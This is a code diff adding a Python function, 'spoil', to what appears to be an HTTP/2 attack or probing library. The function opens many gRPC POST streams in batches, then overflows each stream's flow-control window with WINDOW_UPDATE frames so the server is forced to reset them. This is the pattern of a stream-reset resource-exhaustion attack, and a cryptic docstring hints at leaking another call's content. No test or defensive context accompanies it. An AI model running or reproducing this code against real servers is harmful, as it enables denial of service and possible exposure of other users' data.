@@ -182,3 +182,24 @@ def shut_window(sock, host, path, streams, timeout):
     while reader.goaway is None and not (reader.streams and all(s["done"] for s in reader.streams.values())) and reader.step():
         pass
     return reader.result()
+
+
+def spoil(sock, host, path, n, timeout=8):
+    """Opens up to n calls, each answered in part (it has gone to the host), then overruns its window so that the peer must reset it. What that
+    costs, content of another call brings."""
+    sock.settimeout(timeout)
+    reader, sent = start(sock), 0
+    call = lambda i: frame(HEADERS, END_HEADERS, i, block(get(host, path, "POST", [["content-type", "application/grpc"]])))
+    reader.send(call(1))
+    while sent < n and not reader.goaway and not reader.closed:
+        ids = [2 * i + 3 for i in range(sent, min(n, sent + 50))]
+        sent += len(ids)
+        reader.send(b"".join(frame(DATA, 0, 1, bytes(256)) * 4 + call(i) for i in ids))
+        while not reader.goaway and not all(reader.of(i)["fields"] for i in ids) and reader.step():
+            pass
+        reader.send(b"".join(frame(WINDOW_UPDATE, 0, i, struct.pack("!I", 0x7fffffff)) for i in ids))
+        while not reader.goaway and not all(reader.of(i)["done"] for i in ids) and reader.step():
+            pass
+    while reader.goaway is None and sent < n and reader.step():
+        pass
+    return {**reader.result(), "sent": sent}
